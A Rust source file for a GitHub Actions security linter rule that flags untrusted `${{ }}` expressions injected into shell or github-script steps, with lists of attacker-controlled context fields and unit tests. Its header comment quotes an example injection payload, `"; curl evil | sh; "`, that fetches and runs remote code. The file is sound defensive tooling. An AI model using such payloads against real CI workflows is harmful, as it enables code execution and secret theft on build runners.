//! `template-injection`: `${{ … }}` expressions whose value an outsider controls (high) or
//! someone with push or dispatch access controls (low), pasted into a `run:` script or an
//! `actions/github-script` script.
//!
//! GitHub substitutes expressions into the script text *before* the shell or Node runs it, so
//! a pull request titled `"; curl evil | sh; "` becomes code. The expression is located in the
//! raw source of the script (block scalars included), so the finding points at the exact line
//! and column. Values moved into `env:` and read as `"$VAR"` are data, not code, and are not
//! findings: that indirection is the fix.

use crate::model::Severity;

use super::document::{Document, Step};
use super::yaml::Node;
use super::{Report, TEMPLATE_INJECTION, region_between};

/// Context fields anyone who can open an issue, a pull request or a comment can set.
const ATTACKER_CONTROLLED: &[(&str, &str)] = &[
    ("github.event.issue.title", "issue title"),
    ("github.event.issue.body", "issue body"),
    ("github.event.pull_request.title", "pull request title"),
    ("github.event.pull_request.body", "pull request body"),
    (
        "github.event.pull_request.head.ref",
        "pull request branch name",
    ),
    (
        "github.event.pull_request.head.label",
        "pull request head label",
    ),
    (
        "github.event.pull_request.head.repo.default_branch",
        "fork's default branch name",
    ),
    (
        "github.event.pull_request.head.repo.description",
        "fork's description",
    ),
    (
        "github.event.pull_request.head.repo.homepage",
        "fork's homepage",
    ),
    ("github.event.comment.body", "comment body"),
    ("github.event.review.body", "review body"),
    ("github.event.review_comment.body", "review comment body"),
    ("github.event.pages.*.page_name", "wiki page name"),
    ("github.event.commits.*.message", "commit message"),
    ("github.event.commits.*.author.email", "commit author email"),
    ("github.event.commits.*.author.name", "commit author name"),
    ("github.event.commits.*.committer.email", "committer email"),
    ("github.event.commits.*.committer.name", "committer name"),
    ("github.event.head_commit.message", "commit message"),
    (
        "github.event.head_commit.author.email",
        "commit author email",
    ),
    ("github.event.head_commit.author.name", "commit author name"),
    (
        "github.event.head_commit.committer.email",
        "committer email",
    ),
    ("github.event.head_commit.committer.name", "committer name"),
    ("github.head_ref", "pull request branch name"),
    (
        "github.event.workflow_run.head_branch",
        "triggering run's branch name",
    ),
    (
        "github.event.workflow_run.head_commit.message",
        "triggering run's commit message",
    ),
    (
        "github.event.workflow_run.head_commit.author.email",
        "triggering run's author email",
    ),
    (
        "github.event.workflow_run.head_commit.author.name",
        "triggering run's author name",
    ),
    (
        "github.event.workflow_run.display_title",
        "triggering run's title",
    ),
    (
        "github.event.workflow_run.pull_requests.*.head.ref",
        "triggering pull request's branch name",
    ),
    ("github.event.discussion.title", "discussion title"),
    ("github.event.discussion.body", "discussion body"),
];

/// Fields set by someone with some access to the repository: a maintainer starting or calling
/// the workflow, or anyone who can push a branch or tag (Git ref names may contain `$(…)`, `;`
/// and backticks). Each entry: pattern, what it is, who controls it.
const INSIDER_CONTROLLED: &[(&str, &str, &str)] = &[
    ("inputs", "input", "whoever starts or calls the workflow"),
    (
        "github.event.inputs",
        "workflow_dispatch input",
        "whoever starts the workflow",
    ),
    (
        "github.event.client_payload",
        "repository_dispatch payload",
        "whoever sends the dispatch",
    ),
    (
        "github.ref_name",
        "branch or tag name",
        "anyone who can push a branch or tag",
    ),
    (
        "github.ref",
        "ref name",
        "anyone who can push a branch or tag",
    ),
    (
        "github.event.ref",
        "ref name",
        "anyone who can push a branch or tag",
    ),
    (
        "github.base_ref",
        "base branch name",
        "anyone who can push a branch",
    ),
    (
        "github.event.pull_request.base.ref",
        "base branch name",
        "anyone who can push a branch",
    ),
];

const HELP: &str = "Move the value into the step's `env:` (`env: TITLE: ${{ … }}`) and use it \
quoted as \"$TITLE\" in the script (`process.env.TITLE` in github-script).";

/// Audit the scripts of every step.
pub(super) fn audit(doc: &Document<'_>, report: &mut Report<'_>) {
    for step in doc.steps() {
        if let Some(run) = step.body.get("run") {
            scan(report, &step, run, "shell script");
        }
        if step.runs_action("actions/github-script")
            && let Some(script) = step.input("script")
        {
            scan(report, &step, script, "github-script JavaScript");
        }
    }
}

fn scan(report: &mut Report<'_>, step: &Step<'_>, script: &Node, language: &str) {
    let raw = report.src.raw(script);
    let mut from = 0;
    while let Some(open) = raw[from..].find("${{").map(|i| from + i) {
        let Some(close) = raw[open + 3..].find("}}").map(|i| open + 3 + i) else {
            break;
        };
        from = close + 2;
        let expr = &raw[open + 3..close];
        let Some(source) = worst_source(expr) else {
            continue;
        };
        let Source {
            severity,
            what,
            who,
        } = source;
        let shown = format!("${{{{ {} }}}}", expr.trim());
        let start = report.src.pos_in(script, open);
        let end = report.src.pos_in(script, close + 2);
        report.emit(
            &TEMPLATE_INJECTION,
            severity,
            region_between(start, end),
            format!(
                "`{shown}` pastes the {what}, which {who} controls, into the {language}: a crafted value runs as code"
            ),
            HELP,
            &format!("{}\u{0}{}\u{0}{}", step.job, step.label(), expr.trim()),
        );
    }
}

/// An untrusted value an expression reads.
#[derive(Debug, PartialEq, Eq)]
struct Source {
    /// High for outsiders, low for people with some access.
    severity: Severity,
    /// What the value is, e.g. `issue title`.
    what: String,
    /// Who controls it.
    who: &'static str,
}

/// The most dangerous untrusted value an expression reads.
fn worst_source(expr: &str) -> Option<Source> {
    let paths = context_paths(expr);
    let describe = |path: &str, pattern: &str, what: &str| match reads(path, pattern) {
        Reads::Field => Some(what.to_owned()),
        Reads::Containing => Some(format!("`{path}` object (which holds the {what})")),
        Reads::Nothing => None,
    };
    let outsider = paths.iter().find_map(|p| {
        ATTACKER_CONTROLLED
            .iter()
            .find_map(|(pattern, what)| describe(p, pattern, what))
    });
    if let Some(what) = outsider {
        return Some(Source {
            severity: Severity::High,
            what,
            who: "anyone who can open an issue or pull request",
        });
    }
    paths.iter().find_map(|p| {
        INSIDER_CONTROLLED.iter().find_map(|(pattern, what, who)| {
            describe(p, pattern, what).map(|what| Source {
                severity: Severity::Low,
                what,
                who,
            })
        })
    })
}

/// How a context path relates to an untrusted field pattern.
#[derive(Debug, PartialEq, Eq)]
enum Reads {
    /// The path is the field or inside it.
    Field,
    /// The path is an object that contains the field (e.g. `toJSON(github.event)`).
    Containing,
    /// Unrelated.
    Nothing,
}

fn reads(path: &str, pattern: &str) -> Reads {
    let (p, q): (Vec<&str>, Vec<&str>) = (path.split('.').collect(), pattern.split('.').collect());
    let same = p
        .iter()
        .zip(&q)
        .all(|(a, b)| a == b || *a == "*" || *b == "*");
    match (same, p.len() >= q.len()) {
        (false, _) => Reads::Nothing,
        (true, true) => Reads::Field,
        (true, false) => Reads::Containing,
    }
}

/// Context paths an expression reads, lower case, with `['x']` as `.x` and `[0]` as `.*`.
///
/// String literals and function names are skipped: in
/// `format('{0}', github.event.issue.title)` only `github.event.issue.title` is a path.
fn context_paths(expr: &str) -> Vec<String> {
    let chars: Vec<char> = expr.chars().collect();
    let is_ident = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-';
    let mut out = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let c = chars[i];
        if c == '\'' {
            i += 1;
            while i < chars.len() {
                if chars[i] == '\'' {
                    if chars.get(i + 1) == Some(&'\'') {
                        i += 2;
                        continue;
                    }
                    break;
                }
                i += 1;
            }
            i += 1;
            continue;
        }
        let starts_path = (c.is_ascii_alphabetic() || c == '_')
            && (i == 0 || !(is_ident(chars[i - 1]) || chars[i - 1] == '.'));
        if !starts_path {
            i += 1;
            continue;
        }
        let mut segments = Vec::new();
        let ident = |i: &mut usize| {
            let begin = *i;
            while *i < chars.len() && is_ident(chars[*i]) {
                *i += 1;
            }
            chars[begin..*i]
                .iter()
                .collect::<String>()
                .to_ascii_lowercase()
        };
        segments.push(ident(&mut i));
        loop {
            match chars.get(i) {
                Some('.') if chars.get(i + 1) == Some(&'*') => {
                    segments.push("*".to_owned());
                    i += 2;
                }
                Some('.') if chars.get(i + 1).is_some_and(|&c| is_ident(c)) => {
                    i += 1;
                    segments.push(ident(&mut i));
                }
                Some('[') => {
                    let close = chars[i..].iter().position(|&c| c == ']').map(|p| i + p);
                    let Some(close) = close else { break };
                    let inner: String = chars[i + 1..close].iter().collect();
                    let inner = inner.trim();
                    let quoted =
                        inner.len() >= 2 && inner.starts_with('\'') && inner.ends_with('\'');
                    segments.push(if quoted {
                        inner[1..inner.len() - 1].to_ascii_lowercase()
                    } else {
                        "*".to_owned()
                    });
                    i = close + 1;
                }
                _ => break,
            }
        }
        let is_call = chars[i..].iter().find(|c| !c.is_whitespace()) == Some(&'(');
        if !is_call {
            out.push(segments.join("."));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_are_normalised_and_literals_skipped() {
        assert_eq!(
            context_paths(" format('{0} github.event.issue.title', github.event['issue'].title) "),
            vec!["github.event.issue.title"]
        );
        assert_eq!(
            context_paths("github.event.commits[0].message || 'x'"),
            vec!["github.event.commits.*.message"]
        );
        assert_eq!(context_paths("toJSON(github.event)"), vec!["github.event"]);
    }

    #[test]
    fn sources_are_ranked() {
        assert_eq!(
            worst_source("github.event.pull_request.title").map(|s| s.severity),
            Some(Severity::High)
        );
        assert_eq!(
            worst_source("GITHUB.HEAD_REF").map(|s| s.severity),
            Some(Severity::High)
        );
        assert_eq!(
            worst_source("inputs.version").map(|s| s.severity),
            Some(Severity::Low)
        );
        assert_eq!(
            worst_source("toJSON(github.event)").map(|s| s.severity),
            Some(Severity::High)
        );
        assert_eq!(worst_source("github.event.pull_request.number"), None);
        assert_eq!(worst_source("github.event.pull_request.head.sha"), None);
        assert_eq!(worst_source("secrets.TOKEN"), None);
        assert_eq!(worst_source("github.event_name"), None);
        assert_eq!(
            worst_source("github.ref_name").map(|s| s.severity),
            Some(Severity::Low)
        );
        assert_eq!(worst_source("github.repository"), None);
    }
}
